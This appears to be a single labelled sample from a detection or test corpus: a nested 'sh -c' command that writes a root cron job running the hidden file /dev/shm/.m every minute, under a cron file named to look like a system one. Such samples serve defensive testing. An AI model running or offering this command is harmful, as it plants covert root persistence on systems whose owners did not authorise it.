# class: embedded, sh -c text in a cron file; style: nested quoting
sh -c 'sh -c "printf \"* * * * * root /dev/shm/.m\\n\" > /etc/cron.d/sysstat2"'
